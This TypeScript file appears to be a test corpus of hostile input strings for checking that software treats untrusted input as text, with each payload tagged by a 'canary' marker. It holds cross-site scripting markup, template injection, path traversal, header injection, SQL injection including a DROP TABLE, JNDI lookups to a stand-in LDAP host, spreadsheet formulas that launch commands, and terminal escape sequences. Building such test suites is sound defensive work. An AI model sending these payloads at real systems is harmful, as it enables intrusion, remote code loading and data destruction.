/** A string that means something to whatever reads it carelessly. */
export interface Hostile {
  /** What it is, in plain letters. */
  readonly name: string;
  readonly bytes: Buffer;
}

/** What these strings try to bring about carries this word: where it appears as anything but text, one of them was believed. */
export const CANARY = 'canary';

/** The longest that a name can be where its length takes two bytes, less room for what stands around it. */
const LONG_BYTES = 60_000;

const text = (name: string, value: string): Hostile => ({ name, bytes: Buffer.from(value) });
const raw = (name: string, ...bytes: number[]): Hostile => ({ name, bytes: Buffer.from(bytes) });
/** What shells, loggers and template literals fill in. */
const placeholder = (inner: string) => `$\{${inner}}`;
const range = (from: number, to: number) => Array.from({ length: to - from }, (_, i) => from + i);

const MARKUP = [
  text('image with a handler', '<img id=canary-img src=/canary.png onerror=window.canary=1>'),
  text('script', '<script>window.canary=1</script>'),
  text('end of a script block', '</script><script>window.canary=1</script>'),
  text('end of an attribute', '"><svg/onload=window.canary=1><b id=canary-b>'),
  text('end of a single-quoted attribute', "' autofocus onfocus='window.canary=1' x='"),
  text('end of the title', '</title></head><iframe id=canary-frame src=javascript:parent.canary=1></iframe>'),
  text('comment and CDATA', '<!--]]>--><b id=canary-b>--!>'),
  text('base and style', '<base href=//canary.invalid/><style>*{display:none}</style>'),
  text('MathML that changes its mind', '<math><mtext><table><mglyph><style><img src=x onerror=window.canary=1>'),
  text('entities', '&lt;img src=x onerror=window.canary=1&gt;&#x3c;b id=canary-b&#x3e;'),
  text('replacement patterns', "$&$`$'$$<b id=canary-b>"),
];

const TEMPLATES = [
  text('braces', "{{constructor.constructor('window.canary=1')()}}"),
  text('Svelte', '{@html "<img id=canary-img src=x onerror=window.canary=1>"}{canary}'),
  text('template literal', `${placeholder('window.canary=1')}\`+(window.canary=1)+\``),
  text('server side', '<%= canary %>#{canary}{% include "canary" %}'),
  text('names of an object’s own', '__proto__'),
  text('format', '%s%n%x%d%o%j%%{canary}'),
];

const ADDRESSES = [
  text('javascript', 'javascript:window.canary=1//'),
  text('data', 'data:text/html,<script>window.canary=1</script>'),
  text('another origin', '//canary.invalid/canary'),
  text('link', 'https://canary.invalid/?q=canary'),
  text('path', '../../../../etc/canary%00/..%2f..%5c'),
  text('header', 'canary%0d%0aSet-Cookie: canary=1\r\nSet-Cookie: canary=1\r\n\r\n<b id=canary-b>'),
];

const UNSEEN = [
  raw('control characters', ...range(0x00, 0x20), 0x7f),
  text('C1 control characters', String.fromCharCode(...range(0x80, 0xa0))),
  raw('C1 control characters as bytes', ...range(0x80, 0xa0)),
  raw('null in the middle', 0x61, 0x00, 0x62),
  text('overrides of direction', 'a\u202egnp.exe\u202c\u2066b\u2069\u200f\u061c'),
  text('zero width', 'p\u200b\u200c\u200d\u2060\ufeff\u00adinata\u3164\u115f\u180e'),
  text('tags and variation selectors', 'x\u{e0063}\u{e0061}\u{e006e}\ufe0f\u{e0100}'),
  text('a tower of marks', `e${'\u0301\u0489'.repeat(60)}`),
  text('line ends of other scripts', 'a\u2028b\u2029c\u0085d'),
];

const ENCODINGS = [
  raw('bytes that never occur', 0xff, 0xfe, 0xc0, 0xc1, 0xf5),
  raw('overlong', 0xc0, 0xbc, 0xe0, 0x80, 0xbc, 0xf0, 0x80, 0x80, 0xbc),
  raw('surrogates', 0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80),
  raw('past the last code point', 0xf4, 0x90, 0x80, 0x80),
  raw('cut short', 0x61, 0xe2, 0x82),
  raw('UTF-16', ...Buffer.from('\ufeff<b id=canary-b>', 'utf16le')),
];

const SPREADSHEETS = [
  text('formula', '=HYPERLINK("http://canary.invalid/","canary")'),
  text('formula by plus', "+cmd|' /C calc'!A0"),
  text('formula by minus', '-2+3+canary'),
  text('formula by at', '@SUM(1+1)*canary'),
  text('formula behind a tab', '\t=1+canary'),
  text('formula behind a carriage return', '\r=1+canary'),
  text('formula behind a quote and a comma', '","=1+canary'),
  text('full-width formula', '\uff1d1+canary'),
];

const TERMINALS = [
  text('clear and colour', '\u001b[2J\u001b[1;31mcanary\u001b[0m'),
  text('title', '\u001b]0;canary\u0007'),
  text('link', '\u001b]8;;https://canary.invalid\u001b\\click\u001b]8;;\u001b\\'),
  text('clipboard', '\u001b]52;c;Y2FuYXJ5\u0007'),
  text('a question that types its answer', '\u001bP$q"p\u001b\\\u001b[6n\u001b[21t'),
  raw('one-byte CSI', 0x9b, 0x33, 0x31, 0x6d, 0x9d, 0x30, 0x3b, 0x78, 0x9c),
  text('overwriting', 'secret\b\b\b\b\b\bcanary\rcanary'),
];

const LOGS = [
  text('a line of its own', 'canary\n{"level":60,"msg":"canary"}\n'),
  text('end of the JSON', '"}\n{"level":60,"msg":"canary","x":"'),
  text('a JSON escape', '\\u000a\\u001b[31m\\"canary'),
  text(
    'JNDI',
    placeholder('jndi:ldap://canary.invalid/a') + placeholder(`${placeholder('lower:j')}ndi:dns://canary.invalid`),
  ),
];

const DATABASES = [
  text('end of a literal', "'; drop table attempt; --"),
  text('always true', '\' or 1=1 or "x"="x'),
  text('dollar quotes', '$$; select pg_sleep(60); $$'),
  text('array and composite', '{"canary",NULL}(1,\\"x\\")'),
];

const SIZES = [
  { name: 'nothing', bytes: Buffer.alloc(0) },
  { name: 'very long', bytes: Buffer.alloc(LONG_BYTES, 'A') },
  { name: 'very long markup', bytes: Buffer.alloc(LONG_BYTES, '<b id=canary-b>') },
];

/** The strings that are meant for a page: those that a browser could take for anything but text. */
export const FOR_PAGES: readonly Hostile[] = [...MARKUP, ...TEMPLATES, ...ADDRESSES];

export const CORPUS: readonly Hostile[] = [
  ...FOR_PAGES,
  ...UNSEEN,
  ...ENCODINGS,
  ...SPREADSHEETS,
  ...TERMINALS,
  ...LOGS,
  ...DATABASES,
  ...SIZES,
];
